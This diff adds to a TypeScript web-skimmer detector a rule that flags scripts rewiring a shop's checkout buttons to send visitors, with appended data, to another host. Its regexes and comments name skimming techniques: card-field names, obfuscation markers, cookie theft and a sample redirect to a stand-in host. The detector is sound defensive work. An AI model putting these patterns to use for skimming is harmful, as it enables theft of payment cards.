@@ -86,6 +86,12 @@ interface JsFacts {
   selfReads: AnyNode[];
   /** charCodeAt is called: with fromCharCode and a self-read, the source keys a decoder. */
   charCodeAt: boolean;
+  /** Functions the checkout's buttons are given as click handlers (`$("#place-order").attr("onclick", "f()")`). */
+  checkoutHandlers: Set<string>;
+  /** Where each named function's body lies. */
+  functionSpans: Map<string, { start: number; end: number }>;
+  /** The visitor sent to another host with data appended (`location.href = "//x.example/?d=" + …`). */
+  leavesWithData: AnyNode | null;
 }
 
 function lineAtOffset(text: string, offset: number): number {
@@ -100,7 +106,7 @@ function lineOf(text: string, node: AnyNode | null): number {
 
 /** Scripts worth parsing: something that sends or runs, and something a skimmer or packer needs. */
 const sendish =
-  /new\s+(?:Image|XMLHttpRequest|WebSocket|Function)\b|\bfetch\s*\(|sendBeacon|\.ajax\s*\(|\.post\s*\(|\.src\s*=|\.action\s*=|\beval\s*\(|\bFunction\s*\(|document\.write|createElement|setTimeout\s*\(\s*['"`]|\[\s*['"](?:eval|write|src|Function)['"]\s*\]/;
+  /\blocation(?:\.href)?\s*=\s*['"]\s*(?:https?:)?\/\/|\battr\s*\(\s*['"]href['"]\s*,\s*['"](?:https?:)?\/\/|new\s+(?:Image|XMLHttpRequest|WebSocket|Function)\b|\bfetch\s*\(|sendBeacon|\.ajax\s*\(|\.post\s*\(|\.src\s*=|\.action\s*=|\beval\s*\(|\bFunction\s*\(|document\.write|createElement|setTimeout\s*\(\s*['"`]|\[\s*['"](?:eval|write|src|Function)['"]\s*\]/;
 const termish =
   /cc_?num|cvv|cvc|card.?(?:num|code|holder)|billing|expir(?:y|ation)|credit.?card|\batob\b|fromCharCode|_0x[0-9a-f]{3}|\\x[0-9a-f]{2}|\bunescape\s*\(|\beval\s*\(|['"](?:eval|atob)['"]|document\.cookie|onepage|onestep|checkout|&#\d{2,3};/i;
 
@@ -404,6 +410,25 @@ function charCodeBuilt(bindings: readonly { name: string; value: AnyNode }[]): S
 
 /** Checkout page names that skimmers test the location against before they run. */
 const checkoutPage = /onepage|onestep|firecheckout|checkout/i;
+/** What a checkout's buttons are selected by: their step, their save call, placing the order. */
+const checkoutAction = /checkout|onestep|onepage|payment|place.?order|shippingMethod|billing\.save|review\.save/i;
+
+/** The first piece of a concatenation, when it is a literal (`"//x.example/?d=" + data`). */
+function headLiteral(n: AnyNode, depth = 0): string | null {
+  if (depth > 30) return null;
+  if (n.type === 'Literal') return typeof n.value === 'string' ? n.value : null;
+  if (n.type === 'BinaryExpression' && n.operator === '+') return headLiteral(n.left as AnyNode, depth + 1);
+  if (n.type === 'TemplateLiteral') return n.quasis[0]?.value.cooked ?? null;
+  return null;
+}
+
+/** An address of another host with something computed appended: navigation that carries data. */
+function leavesWith(n: AnyNode): boolean {
+  const carries =
+    (n.type === 'BinaryExpression' && n.operator === '+') || (n.type === 'TemplateLiteral' && n.expressions.length > 0);
+  const head = headLiteral(n);
+  return carries && head !== null && isExternal(head);
+}
 
 function decodeEntities(s: string): string {
   return s.replace(/&#(x[0-9a-f]+|\d+);/gi, (_m, c: string) =>
@@ -558,6 +583,9 @@ function collect(program: Program, text: string): JsFacts {
     cookieTheft: null,
     selfReads: [],
     charCodeAt: false,
+    checkoutHandlers: new Set(),
+    functionSpans: new Map(),
+    leavesWithData: null,
   };
   /** Names of the script's functions, whose source a self-keyed decoder reads with toString(). */
   const functionNames = declared.functions;
@@ -597,6 +625,9 @@ function collect(program: Program, text: string): JsFacts {
       }
       case 'FunctionExpression':
         if (isOperatorFunction(node)) f.operatorFunctions++;
+        return;
+      case 'FunctionDeclaration':
+        if (node.id !== null && f.functionSpans.size < 5000) f.functionSpans.set(node.id.name, node.body);
         return;
       case 'SwitchStatement': {
         // A switch of eight or more operator cases stands for as many operator functions.
@@ -663,6 +694,8 @@ function collect(program: Program, text: string): JsFacts {
             }
           }
           if (prop === 'onclick' || prop === 'onsubmit' || prop === 'onchange') f.listens.push(node.start);
+          if ((prop === 'href' || prop === 'location') && f.leavesWithData === null && leavesWith(node.right))
+            f.leavesWithData = node;
           // Collected values kept in a cookie until they are sent (`document.cookie = "v=" + data`):
           // a harvest's staging step, as encoding is.
           if (prop === 'cookie' && memberName(node.left).object === 'document' && node.right.type !== 'Literal')
@@ -679,6 +712,35 @@ function collect(program: Program, text: string): JsFacts {
           f.decodedStrings.push({ v: folded, at: node.start });
         if (prop === null) return;
         if (prop === 'fromCharCode' && a0 !== null && a0.type !== 'Literal') f.fromCharCodeLoops++;
+        if (
+          (prop === 'attr' || prop === 'setAttribute') &&
+          a0?.type === 'Literal' &&
+          typeof a0.value === 'string' &&
+          node.callee.type === 'MemberExpression'
+        ) {
+          const target = text.slice(node.callee.object.start, node.callee.object.end);
+          const a1 = args[1];
+          const handler =
+            a1?.type === 'Literal' && typeof a1.value === 'string'
+              ? /^\s*([\w$]+)\s*\(/.exec(a1.value)?.[1]
+              : undefined;
+          if (
+            handler !== undefined &&
+            f.checkoutHandlers.size < 20 &&
+            /^on(?:click|submit)$/i.test(a0.value) &&
+            checkoutAction.test(target)
+          )
+            f.checkoutHandlers.add(handler);
+          if (
+            f.leavesWithData === null &&
+            a0.value === 'href' &&
+            /\blocation\b/.test(target) &&
+            a1 !== undefined &&
+            a1.type !== 'SpreadElement' &&
+            leavesWith(a1)
+          )
+            f.leavesWithData = node;
+        }
         if (prop === 'charCodeAt') f.charCodeAt = true;
         // fn.toString() of one of the script's own functions, or of arguments.callee: its source as data.
         if (
@@ -998,6 +1060,26 @@ function analyseScript(text: string, base: number, program: Program | null, nest
       line: at(f.cookieTheft),
       evidence: clip(text.slice(f.cookieTheft.start, f.cookieTheft.start + 120)),
       description: "Sends the page's cookies (sessions) to another host.",
+    });
+  // The checkout's buttons rewired to a function that sends the visitor, with data, to another
+  // host: a fake payment page takes the card there. A gateway's redirect is the platform's own
+  // step after the order is placed, not an onclick rewritten on the shop's buttons.
+  const leaves = f.leavesWithData;
+  const rewired =
+    leaves !== null &&
+    [...f.checkoutHandlers].some((h) => {
+      const span = f.functionSpans.get(h);
+      return span !== undefined && span.start <= leaves.start && leaves.end <= span.end;
+    });
+  if (rewired && f.leavesWithData !== null)
+    out.add({
+      id: 'js-checkout-redirect',
+      category: 'skimmer',
+      weight: 12,
+      line: at(f.leavesWithData),
+      evidence: clip(text.slice(f.leavesWithData.start, f.leavesWithData.start + 120)),
+      description:
+        "Rewires the checkout's buttons and sends the visitor, with data, to another host (a fake payment page).",
     });
   if (f.checkoutGate !== null && verdict === null && (f.harvests.length > 0 || f.scriptInject !== null))
     out.add({
